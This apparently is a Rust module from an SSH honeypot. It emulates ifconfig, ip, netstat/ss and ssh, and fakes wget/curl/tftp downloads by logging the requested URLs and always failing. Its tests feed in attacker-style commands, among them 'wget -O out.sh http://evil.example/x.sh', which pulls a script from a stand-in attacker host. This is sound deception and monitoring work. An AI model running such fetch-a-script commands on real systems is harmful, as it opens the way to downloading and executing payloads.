//! Networking: `ifconfig`, `ip`, `netstat`/`ss` (the decky's address and
//! MAC, the attacker's own connection), and the download tools, which
//! record the URL and fail the way an unreachable host makes them fail
//! (nothing is ever fetched).

use super::{Cmd, Command, Res};
use crate::shell::{Output, Shell, ShellEvent};

/// `ifconfig`: `eth0` with the decky's address and `lo`.
pub(crate) struct Ifconfig;

impl Command for Ifconfig {
    fn names(&self) -> &'static [&'static str] {
        &["ifconfig"]
    }

    fn run(&self, sh: &mut Shell, _: &Cmd, _: &mut Output) -> Res {
        Res::ok(ifconfig(sh))
    }
}

/// `ip addr|route|link`.
pub(crate) struct Ip;

impl Command for Ip {
    fn names(&self) -> &'static [&'static str] {
        &["ip"]
    }

    fn run(&self, sh: &mut Shell, c: &Cmd, _: &mut Output) -> Res {
        ip(sh, c)
    }
}

/// `netstat`/`ss`: sshd listening and the attacker's session.
pub(crate) struct Netstat;

impl Command for Netstat {
    fn names(&self) -> &'static [&'static str] {
        &["netstat", "ss"]
    }

    fn run(&self, sh: &mut Shell, c: &Cmd, _: &mut Output) -> Res {
        Res::ok(netstat(sh, c.name))
    }
}

/// Download tools: each URL becomes a [`ShellEvent::Download`]; the tool then
/// reports a timeout (an IP) or a failed lookup (a name).
pub(crate) struct Download;

impl Command for Download {
    fn names(&self) -> &'static [&'static str] {
        &["wget", "curl", "tftp", "ftpget", "fetch"]
    }

    fn run(&self, sh: &mut Shell, c: &Cmd, out: &mut Output) -> Res {
        download(sh, c, c.name, out)
    }
}

/// The `ssh` client: `-V` prints the persona's OpenSSH and OpenSSL
/// versions on stderr and exits 0, wherever it stands among the options;
/// without a destination it prints its usage and exits 255 (OpenSSH 9.2's
/// text). Connections onwards are not emulated (see [`super::not_emulated`]).
pub(crate) struct Ssh;

impl Command for Ssh {
    fn names(&self) -> &'static [&'static str] {
        &["ssh"]
    }

    fn run(&self, sh: &mut Shell, c: &Cmd, _: &mut Output) -> Res {
        match ssh_invocation(&c.argv[1..]) {
            SshInvocation::Version => {
                let host = sh.vfs.host();
                let line = if host.openssl.is_empty() {
                    format!("{}\n", host.ssh_version)
                } else {
                    format!("{}, {}\n", host.ssh_version, host.openssl)
                };
                Res::err(line, 0)
            }
            SshInvocation::Usage => Res::err(SSH_USAGE.to_owned(), 255),
            SshInvocation::Connect => super::not_emulated(sh, c),
        }
    }
}

const SSH_USAGE: &str = "usage: ssh [-46AaCfGgKkMNnqsTtVvXxYy] [-B bind_interface]
           [-b bind_address] [-c cipher_spec] [-D [bind_address:]port]
           [-E log_file] [-e escape_char] [-F configfile] [-I pkcs11]
           [-i identity_file] [-J [user@]host[:port]] [-L address]
           [-l login_name] [-m mac_spec] [-O ctl_cmd] [-o option] [-p port]
           [-Q query_option] [-R address] [-S ctl_path] [-W host:port]
           [-w local_tun[:remote_tun]] destination [command [argument ...]]
";

/// ssh's options that take a value (`getopt` string letters followed by `:`).
const SSH_VALUE_OPTIONS: &str = "BbcDEeFIiJLlmOoPpQRSWw";

enum SshInvocation {
    Version,
    Usage,
    Connect,
}

/// Reads ssh's options as `getopt` does: clustered flags, a value either
/// glued to its letter or in the next word, options ending at the first
/// word that is not one.
fn ssh_invocation(args: &[String]) -> SshInvocation {
    let mut words = args.iter();
    while let Some(word) = words.next() {
        let Some(cluster) = word.strip_prefix('-').filter(|c| !c.is_empty()) else {
            return SshInvocation::Connect;
        };
        if cluster == "-" {
            break;
        }
        for (i, letter) in cluster.char_indices() {
            if letter == 'V' {
                return SshInvocation::Version;
            }
            if SSH_VALUE_OPTIONS.contains(letter) {
                if i + letter.len_utf8() == cluster.len() {
                    words.next();
                }
                break;
            }
        }
    }
    if words.next().is_some() {
        SshInvocation::Connect
    } else {
        SshInvocation::Usage
    }
}

fn iface_numbers(sh: &Shell) -> (u64, u64, u64, u64) {
    let s = sh.vfs.host().salt;
    let up = (sh.now() - sh.vfs.host().boot_time).num_seconds().max(1) as u64;
    let rxp = up * (3 + s % 11);
    let txp = up * (2 + s % 7);
    (rxp, rxp * 610, txp, txp * 430)
}

fn net_parts(sh: &Shell) -> (String, String, String) {
    let ip = sh.vfs.host().ip;
    let o = ip.octets();
    let brd = format!("{}.{}.{}.255", o[0], o[1], o[2]);
    let mac: Vec<u8> = sh
        .vfs
        .host()
        .mac
        .split(':')
        .filter_map(|x| u8::from_str_radix(x, 16).ok())
        .collect();
    let v6 = if mac.len() == 6 {
        format!(
            "fe80::{:x}:{:x}:{:x}:{:x}",
            ((mac[0] ^ 2) as u16) << 8 | mac[1] as u16,
            (mac[2] as u16) << 8 | 0xff,
            0xfe00 | mac[3] as u16,
            (mac[4] as u16) << 8 | mac[5] as u16
        )
    } else {
        "fe80::1".into()
    };
    (ip.to_string(), brd, v6)
}

fn ifconfig(sh: &Shell) -> String {
    let (ip, brd, v6) = net_parts(sh);
    let (rxp, rxb, txp, txb) = iface_numbers(sh);
    let hb = |b: u64| {
        let (v, u) = if b >= 1 << 30 {
            (b as f64 / (1u64 << 30) as f64, "GiB")
        } else if b >= 1 << 20 {
            (b as f64 / (1u64 << 20) as f64, "MiB")
        } else {
            (b as f64 / 1024.0, "KiB")
        };
        format!("{v:.1} {u}")
    };
    format!(
        "eth0: flags=4163<UP,BROADCAST,RUNNING,MULTICAST>  mtu 1500\n        inet {ip}  netmask 255.255.255.0  broadcast {brd}\n        inet6 {v6}  prefixlen 64  scopeid 0x20<link>\n        ether {mac}  txqueuelen 1000  (Ethernet)\n        RX packets {rxp}  bytes {rxb} ({})\n        RX errors 0  dropped 0  overruns 0  frame 0\n        TX packets {txp}  bytes {txb} ({})\n        TX errors 0  dropped 0 overruns 0  carrier 0  collisions 0\n\nlo: flags=73<UP,LOOPBACK,RUNNING>  mtu 65536\n        inet 127.0.0.1  netmask 255.0.0.0\n        inet6 ::1  prefixlen 128  scopeid 0x10<host>\n        loop  txqueuelen 1000  (Local Loopback)\n        RX packets 3102  bytes 298843 (291.8 KiB)\n        RX errors 0  dropped 0  overruns 0  frame 0\n        TX packets 3102  bytes 298843 (291.8 KiB)\n        TX errors 0  dropped 0 overruns 0  carrier 0  collisions 0\n\n",
        hb(rxb),
        hb(txb),
        mac = sh.vfs.host().mac,
    )
}

fn ip(sh: &Shell, c: &Cmd) -> Res {
    let (ip, brd, v6) = net_parts(sh);
    let sub = c.argv.get(1).map(String::as_str).unwrap_or("");
    match sub {
        "a" | "addr" | "address" | "-4" | "-br" => Res::ok(format!(
            "1: lo: <LOOPBACK,UP,LOWER_UP> mtu 65536 qdisc noqueue state UNKNOWN group default qlen 1000\n    link/loopback 00:00:00:00:00:00 brd 00:00:00:00:00:00\n    inet 127.0.0.1/8 scope host lo\n       valid_lft forever preferred_lft forever\n    inet6 ::1/128 scope host noprefixroute \n       valid_lft forever preferred_lft forever\n2: eth0: <BROADCAST,MULTICAST,UP,LOWER_UP> mtu 1500 qdisc fq_codel state UP group default qlen 1000\n    link/ether {mac} brd ff:ff:ff:ff:ff:ff\n    altname enp0s3\n    inet {ip}/24 brd {brd} scope global eth0\n       valid_lft forever preferred_lft forever\n    inet6 {v6}/64 scope link \n       valid_lft forever preferred_lft forever\n",
            mac = sh.vfs.host().mac
        )),
        "r" | "route" => {
            let o = sh.vfs.host().ip.octets();
            Res::ok(format!(
                "default via {}.{}.{}.1 dev eth0 onlink \n{}.{}.{}.0/24 dev eth0 proto kernel scope link src {ip} \n",
                o[0], o[1], o[2], o[0], o[1], o[2]
            ))
        }
        "l" | "link" => Res::ok(format!(
            "1: lo: <LOOPBACK,UP,LOWER_UP> mtu 65536 qdisc noqueue state UNKNOWN mode DEFAULT group default qlen 1000\n    link/loopback 00:00:00:00:00:00 brd 00:00:00:00:00:00\n2: eth0: <BROADCAST,MULTICAST,UP,LOWER_UP> mtu 1500 qdisc fq_codel state UP mode DEFAULT group default qlen 1000\n    link/ether {} brd ff:ff:ff:ff:ff:ff\n",
            sh.vfs.host().mac
        )),
        "" => Res::err("Usage: ip [ OPTIONS ] OBJECT { COMMAND | help }\n       ip [ -force ] -batch filename\nwhere  OBJECT := { address | addrlabel | amt | fou | help | ila | ioam | l2tp | link |\n                   macsec | maddress | monitor | mptcp | mroute | mrule |\n                   neighbor | neighbour | netconf | netns | nexthop | ntable |\n                   ntbl | route | rule | sr | tap | tcpmetrics |\n                   token | tunnel | tuntap | vrf | xfrm }\n".into(), 255),
        other => Res::err(format!("Object \"{other}\" is unknown, try \"ip help\".\n"), 255),
    }
}

fn netstat(sh: &Shell, name: &str) -> String {
    let ip = sh.vfs.host().ip;
    if name == "ss" {
        format!(
            "Netid State  Recv-Q Send-Q Local Address:Port  Peer Address:Port Process\ntcp   LISTEN 0      128          0.0.0.0:22         0.0.0.0:*          \ntcp   ESTAB  0      0        {ip}:22   {}:52814           \ntcp   LISTEN 0      128             [::]:22            [::]:*          \n",
            sh.opts.remote
        )
    } else {
        format!(
            "Active Internet connections (servers and established)\nProto Recv-Q Send-Q Local Address           Foreign Address         State      \ntcp        0      0 0.0.0.0:22              0.0.0.0:*               LISTEN     \ntcp        0     64 {:<23} {:<23} ESTABLISHED\ntcp6       0      0 :::22                   :::*                    LISTEN     \n",
            format!("{ip}:22"),
            format!("{}:52814", sh.opts.remote)
        )
    }
}

/// curl options whose value is the next word (so it is not taken for a URL).
const CURL_VALUE_OPTIONS: &[&str] = &[
    "-o",
    "-H",
    "-d",
    "-A",
    "-u",
    "-X",
    "-e",
    "-x",
    "-b",
    "-c",
    "-m",
    "-F",
    "-T",
    "-w",
    "-K",
    "--output",
    "--header",
    "--data",
    "--user-agent",
    "--user",
    "--request",
    "--connect-timeout",
    "--max-time",
    "--data-binary",
];

/// The same for wget and the other tools.
const WGET_VALUE_OPTIONS: &[&str] = &[
    "-O",
    "-o",
    "-P",
    "-U",
    "-e",
    "-t",
    "-T",
    "-a",
    "--output-document",
    "--user-agent",
    "--header",
    "--tries",
    "--timeout",
];

/// At most this many URLs of one command are recorded.
const MAX_URLS: usize = 16;

fn download(sh: &Shell, c: &Cmd, tool: &str, out: &mut Output) -> Res {
    let urls = urls(c, tool);
    if urls.is_empty() {
        return match tool {
            "curl" => Res::err("curl: try 'curl --help' or 'curl --manual' for more information\n".into(), 2),
            _ => Res::err(format!("{tool}: missing URL\nUsage: {tool} [OPTION]... [URL]...\n\nTry `{tool} --help' for more options.\n"), 1),
        };
    }
    let mut res = Res::default();
    for u in urls.into_iter().take(MAX_URLS) {
        out.events.push(ShellEvent::Download {
            url: u.clone(),
            tool: tool.to_owned(),
        });
        let (text, code) = failure(sh, tool, &u);
        res.err.push_str(&text);
        res.code = code;
    }
    res
}

/// The words that look like URLs (bounded), option values skipped.
fn urls(c: &Cmd, tool: &str) -> Vec<String> {
    let value_options = if tool == "curl" {
        CURL_VALUE_OPTIONS
    } else {
        WGET_VALUE_OPTIONS
    };
    let mut urls = Vec::new();
    let mut skip = false;
    for a in c.argv.iter().skip(1) {
        if skip {
            skip = false;
            continue;
        }
        if value_options.contains(&a.as_str()) {
            skip = true;
            continue;
        }
        if a.starts_with('-') {
            continue;
        }
        if a.len() <= 2048 && (a.contains("://") || a.contains('.') || a.contains('/')) {
            urls.push(a.clone());
        }
    }
    urls
}

/// What `tool` prints, and its exit status, when the URL's host cannot be
/// reached (an address: connection fails) or resolved (a name).
fn failure(sh: &Shell, tool: &str, u: &str) -> (String, i32) {
    let (scheme, rest) = match u.split_once("://") {
        Some((s, r)) => (s.to_ascii_lowercase(), r),
        None => ("http".to_owned(), u),
    };
    let hostport = rest.split('/').next().unwrap_or("");
    let host = hostport.rsplit('@').next().unwrap_or(hostport);
    let (h, port) = match host.rsplit_once(':') {
        Some((h, p)) if p.parse::<u16>().is_ok() => (h, p),
        _ => (host, if scheme == "https" { "443" } else { "80" }),
    };
    let is_ip = h.parse::<std::net::Ipv4Addr>().is_ok();
    if tool == "curl" {
        if is_ip {
            let ms = 3000 + sh.vfs.host().salt % 100;
            return (format!("curl: (7) Failed to connect to {h} port {port} after {ms} ms: Couldn't connect to server\n"), 7);
        }
        return (format!("curl: (6) Could not resolve host: {h}\n"), 6);
    }
    let when = sh.now().format("%Y-%m-%d %H:%M:%S");
    let shown = if u.contains("://") {
        u.to_owned()
    } else {
        format!("http://{u}")
    };
    if is_ip {
        (format!("--{when}--  {shown}\nConnecting to {h}:{port}... failed: Connection timed out.\nRetrying.\n\n"), 4)
    } else {
        (format!("--{when}--  {shown}\nResolving {h} ({h})... failed: Temporary failure in name resolution.\nwget: unable to resolve host address ‘{h}’\n"), 4)
    }
}

#[cfg(test)]
mod tests {
    use crate::commands::testing::{root, run};
    use crate::shell::ShellEvent;

    #[test]
    fn ifconfig_shows_the_deckys_address_and_mac() {
        let mut sh = root();
        let mac = sh.vfs().host().mac.clone();
        let out = run(&mut sh, "ifconfig");
        assert!(out.starts_with("eth0: flags=4163<UP,BROADCAST,RUNNING,MULTICAST>  mtu 1500\n"));
        assert!(out.contains("inet 10.0.0.5  netmask 255.255.255.0  broadcast 10.0.0.255\n"));
        assert!(out.contains(&format!("ether {mac}  txqueuelen 1000  (Ethernet)\n")));
        assert!(out.contains("\nlo: flags=73<UP,LOOPBACK,RUNNING>  mtu 65536\n"));
    }

    #[test]
    fn ip_shows_addresses_routes_and_links() {
        let mut sh = root();
        let mac = sh.vfs().host().mac.clone();
        assert!(run(&mut sh, "ip a")
            .contains("    inet 10.0.0.5/24 brd 10.0.0.255 scope global eth0\n"));
        assert_eq!(
            run(&mut sh, "ip r"),
            "default via 10.0.0.1 dev eth0 onlink \n10.0.0.0/24 dev eth0 proto kernel scope link src 10.0.0.5 \n"
        );
        assert!(run(&mut sh, "ip link")
            .contains(&format!("    link/ether {mac} brd ff:ff:ff:ff:ff:ff\n")));
        let out = sh.execute("ip foo");
        assert_eq!(out.stdout, "Object \"foo\" is unknown, try \"ip help\".\n");
        assert_eq!(out.exit_code, 255);
        assert!(run(&mut sh, "ip").starts_with("Usage: ip [ OPTIONS ] OBJECT"));
    }

    #[test]
    fn netstat_and_ss_show_sshd_and_the_attacker() {
        let mut sh = root();
        let ns = run(&mut sh, "netstat -antp");
        assert!(
            ns.contains(
                "tcp        0     64 10.0.0.5:22             203.0.113.9:52814       ESTABLISHED\n"
            ),
            "{ns}"
        );
        let ss = run(&mut sh, "ss -tlnp");
        assert!(ss.starts_with("Netid State  Recv-Q Send-Q"));
        assert!(
            ss.contains("tcp   ESTAB  0      0        10.0.0.5:22   203.0.113.9:52814"),
            "{ss}"
        );
    }

    #[test]
    fn ssh_prints_its_version_or_usage_like_openssh() {
        let mut sh = root();
        let host = sh.vfs.host().clone();
        let version = format!("{}, {}\n", host.ssh_version, host.openssl);
        assert!(
            version.starts_with("OpenSSH_9.2p1 Debian-2+deb12u"),
            "{version}"
        );
        for line in ["ssh -V", "ssh -qV", "ssh -p 22 -V", "ssh -V somehost"] {
            let out = sh.execute(line);
            assert_eq!(out.stdout, version, "{line}");
            assert_eq!(out.exit_code, 0, "{line}");
        }
        // `V` as an option's value is not the flag; no destination: usage.
        for line in ["ssh -oV", "ssh"] {
            let out = sh.execute(line);
            assert!(out
                .stdout
                .starts_with("usage: ssh [-46AaCfGgKkMNnqsTtVvXxYy]"));
            assert!(out
                .stdout
                .ends_with("destination [command [argument ...]]\n"));
            assert_eq!(out.exit_code, 255, "{line}");
        }
    }

    #[test]
    fn downloads_record_urls_and_fail_like_the_tool() {
        let mut sh = root();
        let out = sh.execute("wget -O out.sh http://evil.example/x.sh");
        let urls: Vec<(&str, &str)> = out
            .events
            .iter()
            .filter_map(|e| match e {
                ShellEvent::Download { url, tool } => Some((url.as_str(), tool.as_str())),
                _ => None,
            })
            .collect();
        // The -O value is not a URL.
        assert_eq!(urls, vec![("http://evil.example/x.sh", "wget")]);
        assert_eq!(
            out.stdout,
            "--2026-11-23 10:00:00--  http://evil.example/x.sh\nResolving evil.example (evil.example)... failed: Temporary failure in name resolution.\nwget: unable to resolve host address ‘evil.example’\n"
        );
        assert_eq!(out.exit_code, 4);
        let out = sh.execute("curl -s https://198.51.100.7/y");
        assert!(out
            .stdout
            .starts_with("curl: (7) Failed to connect to 198.51.100.7 port 443 after "));
        assert_eq!(out.exit_code, 7);
        let out = sh.execute("curl -H 'Host: x' a.example:8080/p");
        assert_eq!(out.stdout, "curl: (6) Could not resolve host: a.example\n");
        assert_eq!(out.exit_code, 6);
        assert!(run(&mut sh, "tftp -g 198.51.100.9:69/x")
            .contains("Connecting to 198.51.100.9:69... failed"));
        assert_eq!(sh.execute("curl").exit_code, 2);
        assert!(run(&mut sh, "ftpget").starts_with("ftpget: missing URL\n"));
        assert!(run(&mut sh, "fetch").starts_with("fetch: missing URL\n"));
    }
}
